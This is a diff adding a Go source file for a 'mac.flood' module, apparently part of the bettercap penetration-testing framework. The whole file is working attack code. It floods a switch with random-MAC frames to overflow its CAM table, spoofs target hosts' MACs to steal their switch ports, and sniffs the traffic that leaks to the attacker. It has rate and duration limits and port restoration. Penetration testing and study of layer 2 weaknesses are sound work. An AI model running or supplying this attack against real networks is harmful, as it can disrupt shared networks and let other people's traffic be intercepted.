@@ -0,0 +1,364 @@
+package mac_flood
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+const (
+	ModeFlood = "flood"
+	ModeSteal = "steal"
+
+	// frames are sent in bursts at every tick to reach high rates
+	tickInterval = 10 * time.Millisecond
+)
+
+type MACFlooder struct {
+	session.SessionModule
+	Handle        *pcap.Handle
+	mode          string
+	rate          int
+	maxFrames     uint64
+	duration      time.Duration
+	stopOnLeak    bool
+	addresses     []net.IP
+	macs          []net.HardwareAddr
+	victims       map[string]net.IP
+	victimsLock   *sync.RWMutex
+	sent          uint64
+	captured      uint64
+	waitGroup     *sync.WaitGroup
+	pktSourceChan chan gopacket.Packet
+}
+
+func NewMACFlooder(s *session.Session) *MACFlooder {
+	mod := &MACFlooder{
+		SessionModule: session.NewSessionModule("mac.flood", s),
+		mode:          ModeFlood,
+		addresses:     make([]net.IP, 0),
+		macs:          make([]net.HardwareAddr, 0),
+		victims:       make(map[string]net.IP),
+		victimsLock:   &sync.RWMutex{},
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	mod.AddParam(session.NewStringParameter("mac.flood.targets", "", "",
+		"Comma separated list of IP addresses, MAC addresses or aliases of the hosts whose switch port mac.steal will take over."))
+
+	mod.AddParam(session.NewIntParameter("mac.flood.rate",
+		"1000",
+		"Frames to send per second."))
+
+	mod.AddParam(session.NewIntParameter("mac.flood.max_frames",
+		"0",
+		"Stop after sending this many frames, 0 for no limit."))
+
+	mod.AddParam(session.NewIntParameter("mac.flood.duration",
+		"60",
+		"Stop after this many seconds, 0 for no limit."))
+
+	mod.AddParam(session.NewBoolParameter("mac.flood.stop_on_leak",
+		"true",
+		"If true, stop as soon as traffic addressed to other hosts is received, meaning the switch is failing open or the port has been stolen."))
+
+	mod.AddHandler(session.NewModuleHandler("mac.flood on", "",
+		"Flood the switch with random source MAC addresses to fill its CAM table, so that it forwards every frame to every port.",
+		func(args []string) error {
+			return mod.startMode(ModeFlood)
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("mac.flood off", "",
+		"Stop flooding the switch.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("mac.steal on", "",
+		"Send frames with the MAC addresses of mac.flood.targets as source, so that the switch forwards their traffic to our port.",
+		func(args []string) error {
+			return mod.startMode(ModeSteal)
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("mac.steal off", "",
+		"Stop stealing the ports of the targets.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	return mod
+}
+
+func (mod MACFlooder) Name() string {
+	return "mac.flood"
+}
+
+func (mod MACFlooder) Description() string {
+	return "Demonstrates layer 2 weaknesses of switches with CAM table overflow and port stealing attacks."
+}
+
+func (mod MACFlooder) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *MACFlooder) startMode(mode string) error {
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	}
+	mod.mode = mode
+	return mod.Start()
+}
+
+func (mod *MACFlooder) Configure() error {
+	var err error
+	var targets string
+	var maxFrames int
+	var duration int
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	} else if err, targets = mod.StringParam("mac.flood.targets"); err != nil {
+		return err
+	} else if err, mod.rate = mod.IntParam("mac.flood.rate"); err != nil {
+		return err
+	} else if err, maxFrames = mod.IntParam("mac.flood.max_frames"); err != nil {
+		return err
+	} else if err, duration = mod.IntParam("mac.flood.duration"); err != nil {
+		return err
+	} else if err, mod.stopOnLeak = mod.BoolParam("mac.flood.stop_on_leak"); err != nil {
+		return err
+	} else if mod.rate <= 0 {
+		return fmt.Errorf("mac.flood.rate must be greater than 0")
+	} else if maxFrames < 0 {
+		return fmt.Errorf("mac.flood.max_frames can't be negative")
+	} else if duration < 0 {
+		return fmt.Errorf("mac.flood.duration can't be negative")
+	} else if mod.addresses, mod.macs, err = network.ParseTargets(targets, mod.Session.Lan.Aliases()); err != nil {
+		return err
+	} else if mod.mode == ModeSteal && len(mod.addresses)+len(mod.macs) == 0 {
+		return fmt.Errorf("mac.flood.targets is required to steal ports")
+	}
+
+	mod.maxFrames = uint64(maxFrames)
+	mod.duration = time.Duration(duration) * time.Second
+	mod.sent = 0
+	mod.captured = 0
+
+	// anything unicast that is neither from nor for us
+	ourHW := mod.Session.Interface.HW.String()
+	filter := fmt.Sprintf("not ether multicast and not ether dst %s and not ether src %s", ourHW, ourHW)
+	if mod.Handle, err = network.Capture(mod.Session.Interface.Name()); err != nil {
+		return err
+	} else if err = mod.Handle.SetBPFFilter(filter); err != nil {
+		mod.Handle.Close()
+		return err
+	}
+
+	return nil
+}
+
+// resolves the victims every time, addresses might be discovered while running.
+func (mod *MACFlooder) updateVictims() {
+	victims := make(map[string]net.IP)
+	for _, ip := range mod.addresses {
+		if hw, err := mod.Session.FindMAC(ip, false); err == nil {
+			victims[hw.String()] = ip
+		}
+	}
+	for _, hw := range mod.macs {
+		var ip net.IP
+		if addr, err := network.ArpInverseLookup(mod.Session.Interface.Name(), hw.String(), false); err == nil {
+			ip = net.ParseIP(addr)
+		}
+		victims[hw.String()] = ip
+	}
+
+	mod.victimsLock.Lock()
+	defer mod.victimsLock.Unlock()
+	mod.victims = victims
+}
+
+func (mod *MACFlooder) nextFrames(n int) [][]byte {
+	frames := make([][]byte, 0, n)
+	ourHW := mod.Session.Interface.HW
+
+	if mod.mode == ModeFlood {
+		for i := 0; i < n; i++ {
+			if err, frame := packets.NewCAMFrame(packets.RandomMAC(), ourHW); err == nil {
+				frames = append(frames, frame)
+			}
+		}
+		return frames
+	}
+
+	mod.victimsLock.RLock()
+	defer mod.victimsLock.RUnlock()
+
+	for len(frames) < n && len(mod.victims) > 0 {
+		for mac := range mod.victims {
+			hw, _ := net.ParseMAC(mac)
+			if err, frame := packets.NewCAMFrame(hw, ourHW); err == nil {
+				frames = append(frames, frame)
+			}
+			if len(frames) == n {
+				break
+			}
+		}
+	}
+	return frames
+}
+
+// stopCondition returns why the attack should stop, if it should.
+func (mod *MACFlooder) stopCondition(started time.Time) string {
+	if mod.maxFrames > 0 && atomic.LoadUint64(&mod.sent) >= mod.maxFrames {
+		return fmt.Sprintf("%d frames sent", mod.maxFrames)
+	} else if mod.duration > 0 && time.Since(started) >= mod.duration {
+		return fmt.Sprintf("%s elapsed", mod.duration)
+	} else if mod.stopOnLeak && atomic.LoadUint64(&mod.captured) > 0 {
+		if mod.mode == ModeFlood {
+			return "the switch is failing open"
+		}
+		return "the ports have been stolen"
+	}
+	return ""
+}
+
+func (mod *MACFlooder) sender() {
+	defer mod.waitGroup.Done()
+
+	ticker := time.NewTicker(tickInterval)
+	defer ticker.Stop()
+
+	started := time.Now()
+	lastUpdate := time.Time{}
+	budget := 0.0
+	for mod.Running() {
+		<-ticker.C
+
+		if mod.mode == ModeSteal && time.Since(lastUpdate) > time.Second {
+			mod.updateVictims()
+			lastUpdate = time.Now()
+		}
+
+		if reason := mod.stopCondition(started); reason != "" {
+			mod.Info("stopping, %s", reason)
+			go mod.Stop()
+			return
+		}
+
+		// keep the average rate when it isn't a multiple of the ticks per second
+		budget += float64(mod.rate) * tickInterval.Seconds()
+		n := int(budget)
+		budget -= float64(n)
+
+		for _, frame := range mod.nextFrames(n) {
+			if mod.maxFrames > 0 && atomic.LoadUint64(&mod.sent) >= mod.maxFrames {
+				break
+			} else if err := mod.Session.Queue.Send(frame); err != nil {
+				mod.Error("error while sending frame: %v", err)
+			} else {
+				atomic.AddUint64(&mod.sent, 1)
+			}
+		}
+	}
+}
+
+func (mod *MACFlooder) onPacket(pkt gopacket.Packet) {
+	eth, ok := pkt.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
+	if !ok {
+		return
+	}
+
+	if mod.mode == ModeSteal {
+		mod.victimsLock.RLock()
+		_, stolen := mod.victims[eth.DstMAC.String()]
+		mod.victimsLock.RUnlock()
+		if !stolen {
+			return
+		}
+	} else if bytes.Equal(eth.DstMAC, mod.Session.Interface.HW) {
+		return
+	}
+
+	if atomic.AddUint64(&mod.captured, 1) == 1 {
+		if mod.mode == ModeFlood {
+			mod.Warning("received a frame for %s from %s, the switch is failing open", eth.DstMAC, eth.SrcMAC)
+		} else {
+			mod.Warning("received a frame for %s from %s, the port has been stolen", tui.Bold(eth.DstMAC.String()), eth.SrcMAC)
+		}
+	}
+}
+
+func (mod *MACFlooder) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		if mod.mode == ModeFlood {
+			mod.Warning("flooding the switch with %d frames per second, this might disrupt the network", mod.rate)
+		} else {
+			mod.updateVictims()
+			mod.Warning("stealing the ports of %d targets with %d frames per second", len(mod.addresses)+len(mod.macs), mod.rate)
+		}
+
+		mod.waitGroup.Add(2)
+		go mod.sender()
+		defer mod.waitGroup.Done()
+
+		src := gopacket.NewPacketSource(mod.Handle, mod.Handle.LinkType())
+		mod.pktSourceChan = src.Packets()
+		for packet := range mod.pktSourceChan {
+			if !mod.Running() {
+				break
+			}
+
+			mod.onPacket(packet)
+		}
+	})
+}
+
+// an arp request to each victim makes it answer, and the switch learn its
+// real port again.
+func (mod *MACFlooder) restorePorts() {
+	mod.victimsLock.RLock()
+	defer mod.victimsLock.RUnlock()
+
+	for mac, ip := range mod.victims {
+		if ip == nil {
+			continue
+		} else if err, pkt := packets.NewARPRequest(mod.Session.Interface.IP, mod.Session.Interface.HW, ip); err != nil {
+			mod.Error("error while creating ARP request for %s: %v", ip, err)
+		} else {
+			mod.Debug("restoring the port of %s (%s)", ip, mac)
+			mod.Session.Queue.Send(pkt)
+		}
+	}
+}
+
+func (mod *MACFlooder) Stop() error {
+	return mod.SetRunning(false, func() {
+		mod.pktSourceChan <- nil
+		mod.Handle.Close()
+		mod.waitGroup.Wait()
+
+		if mod.mode == ModeSteal {
+			mod.restorePorts()
+		}
+
+		mod.Info("sent %d frames, %d frames for other hosts received", atomic.LoadUint64(&mod.sent), atomic.LoadUint64(&mod.captured))
+	})
+}